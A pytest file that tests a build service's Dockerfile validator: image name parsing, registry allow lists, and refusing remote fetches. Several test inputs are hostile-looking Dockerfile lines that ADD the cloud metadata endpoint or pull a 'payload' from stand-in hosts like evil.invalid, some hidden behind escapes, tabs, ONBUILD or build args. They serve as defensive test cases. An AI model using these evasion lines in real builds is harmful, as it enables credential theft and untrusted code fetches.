"""Which images a Dockerfile makes an engine fetch, and which registries a build may use."""

from __future__ import annotations

import pytest

from services.builder.dockerfile import parse_dockerfile
from services.builder.images import (
    check_hosts,
    images_used,
    parse_image,
    trigger_problems,
)
from shared.builds.errors import BuildError

OWN = ("registry.internal:5000", "registry.example.com")


def texts(dockerfile: str, **build_args: str) -> list[str]:
    return [image.text for image in images_used(parse_dockerfile(dockerfile), build_args)]


def test_every_stage_base_and_copy_from_image_is_named_but_stages_are_not() -> None:
    dockerfile = (
        "ARG BASE=registry.internal:5000/spaces-1/base:1.0\n"
        "FROM ${BASE} AS build\nRUN make\n"
        "FROM build AS test\n"
        "FROM scratch\n"
        "COPY --from=build /out /out\n"
        "COPY --from=1 /out /out2\n"
        "COPY --from=registry.internal:5000/spaces-1/tools:2 /bin/tool /bin/tool\n"
    )
    assert texts(dockerfile) == [
        "registry.internal:5000/spaces-1/base:1.0",
        "registry.internal:5000/spaces-1/tools:2",
    ]
    assert texts(dockerfile, BASE="elsewhere.io/x/y:1")[0] == "elsewhere.io/x/y:1"


def test_stage_names_are_matched_without_case() -> None:
    assert texts("FROM a.io/x/base:1 AS Build\nFROM BUILD\nCOPY --from=build /a /a\n") == [
        "a.io/x/base:1"
    ]


@pytest.mark.parametrize(
    ("text", "host", "repository", "reference"),
    [
        ("alpine", "docker.io", "alpine", "latest"),
        ("spaces-1/base:1.0", "docker.io", "spaces-1/base", "1.0"),
        ("127.0.0.1:5000/spaces-1/base:1.0", "127.0.0.1:5000", "spaces-1/base", "1.0"),
        ("localhost/x/y", "localhost", "x/y", "latest"),
        ("Reg.Example.com/a/b@sha256:" + "0" * 64, "reg.example.com", "a/b", "sha256:" + "0" * 64),
    ],
)
def test_names_are_read_as_docker_reads_them(
    text: str, host: str, repository: str, reference: str
) -> None:
    image = parse_image(text, 1)
    assert (image.host, image.repository, image.reference) == (host, repository, reference)


@pytest.mark.parametrize(
    "text",
    ["spaces-2/../spaces-1/x:1", "a/B:1", "a//b", "a/b:bad tag", "a/b@sha256:zz", "a/b%2f..", ""],
)
def test_a_name_that_is_not_an_image_is_refused(text: str) -> None:
    with pytest.raises(BuildError) as raised:
        parse_image(text, 3)
    assert raised.value.code == "dockerfile_invalid"


def test_a_from_with_a_variable_left_unexpanded_or_extra_words_is_refused() -> None:
    for dockerfile in ("FROM $NOPE\n", "FROM a.io/x:1 b c\n"):
        with pytest.raises(BuildError):
            texts(dockerfile)


def test_a_copy_from_named_by_a_variable_is_refused() -> None:
    with pytest.raises(BuildError) as raised:
        texts("FROM a.io/x:1\nARG S=evil.io/y:1\nCOPY --from=$S /a /a\n")
    assert raised.value.code == "dockerfile_unsupported"


@pytest.mark.parametrize(
    "line",
    [
        "ADD http://127.0.0.1:8080/x /x",
        "ADD https://169.254.169.254/latest/meta-data /m",
        'ADD ["ftp://host/file", "/f"]',
        "ADD git@github.com:o/r.git /src",
        "ADD --chown=1 local.txt HTTP://host/x /dir/",
    ],
)
def test_add_of_a_url_is_refused(line: str) -> None:
    with pytest.raises(BuildError) as raised:
        texts(f"FROM a.io/x:1\n{line}\n")
    assert raised.value.code == "dockerfile_unsupported"


def test_add_of_local_files_and_archives_is_fine() -> None:
    assert texts("FROM a.io/x:1\nADD app.tar.gz /app/\nADD conf/ /etc/conf/\n") == ["a.io/x:1"]


def test_images_come_from_this_registry_or_an_allowed_one() -> None:
    images = images_used(
        parse_dockerfile(
            "FROM registry.example.com/spaces-1/a:1\n"
            "COPY --from=REGISTRY.internal:5000/spaces-1/b:1 /x /x\n"
        ),
        {},
    )
    check_hosts(images, OWN, ())
    for name in ("127.0.0.1:9/x/y:1", "alpine", "169.254.169.254/a/b", "registry.internal/x:1"):
        with pytest.raises(BuildError) as raised:
            check_hosts([parse_image(name, 1)], OWN, ())
        assert raised.value.code == "base_image_denied"
    check_hosts([parse_image("alpine", 1)], OWN, ("docker.io",))
    check_hosts([parse_image("Mirror.io:443/x/y", 1)], OWN, ("mirror.io:443",))


def test_onbuild_triggers_that_fetch_or_copy_from_an_image_are_found() -> None:
    triggers = [
        "RUN make",
        "ADD https://evil.example/x /x",
        "add  http://h/y /y",
        "ADD a /a",
        "ADD $U /x",
        "ADD --chown=0\thttp://h/z /z/",
        "COPY --from=evil.invalid/img:1 /a /a",
        "COPY . /app",
        'ADD --chown="0 " http://h/q /q',
    ]
    assert trigger_problems(triggers) == [triggers[i] for i in (1, 2, 4, 5, 6, 8)]


def test_a_stage_cannot_copy_from_itself_so_its_name_there_is_an_image() -> None:
    assert texts("FROM a.io/x:1 AS alpine\nCOPY --from=alpine /a /a\n") == ["a.io/x:1", "alpine"]
    assert texts("FROM a.io/x:1 AS b\nFROM a.io/y:1\nCOPY --from=b /a /a\n") == [
        "a.io/x:1",
        "a.io/y:1",
    ]


def test_built_in_proxy_args_reach_from_as_docker_lets_them() -> None:
    dockerfile = "FROM ${HTTP_PROXY}lt/busybox:1\n"
    assert texts(dockerfile, HTTP_PROXY="evil.invalid/") == ["evil.invalid/lt/busybox:1"]


@pytest.mark.parametrize(
    "line",
    ["ADD $U /x", "ADD ${U} /x", "ADD --chown=0\thttp://evil.invalid/meta x /y/"],
)
def test_add_of_a_variable_or_behind_a_tab_is_refused(line: str) -> None:
    with pytest.raises(BuildError) as raised:
        texts(f"FROM a.io/x:1\nARG U=http://169.254.169.254/latest/meta-data/\n{line}\n")
    assert raised.value.code == "dockerfile_unsupported"


@pytest.mark.parametrize(
    "dockerfile",
    [
        "FROM a.io/x:1 AS a\nONBUILD COPY --from=evil.invalid/x:1 /a /b\nFROM a\n",
        "FROM a.io/x:1 AS a\nONBUILD ADD http://evil.invalid/p /p\nFROM a\n",
        'FROM a.io/x:1\nADD ["http:\\\\//evil.invalid/payload", "/p"]\n',
        "# escape=`\nFROM a.io/x:1\nADD http:`//evil.invalid/payload /p\n",
    ],
    ids=["onbuild-copy-from", "onbuild-add-url", "json-escape", "backtick-escape"],
)
def test_what_docker_would_fetch_through_escapes_or_onbuild_is_refused(dockerfile: str) -> None:
    with pytest.raises(BuildError) as raised:
        texts(dockerfile)
    assert raised.value.code == "dockerfile_unsupported"


@pytest.mark.parametrize(
    ("dockerfile", "build_args"),
    [
        ("FROM a.io/x:1 AS 127.0.0.1:5000/spaces-2/p\n"
         "COPY --from=127.0.0.1:5000/spaces-2/p /a /a\n", {}),
        ("ARG B\nFROM $B\n", {"B": "a.io/x:1 AS evil.io/x"}),
    ],
    ids=["stage-named-like-an-image", "stage-name-from-a-build-arg"],
)  # fmt: skip
def test_a_stage_name_docker_would_not_accept_is_refused(
    dockerfile: str, build_args: dict[str, str]
) -> None:
    with pytest.raises(BuildError) as raised:
        texts(dockerfile, **build_args)
    assert raised.value.code == "dockerfile_invalid"
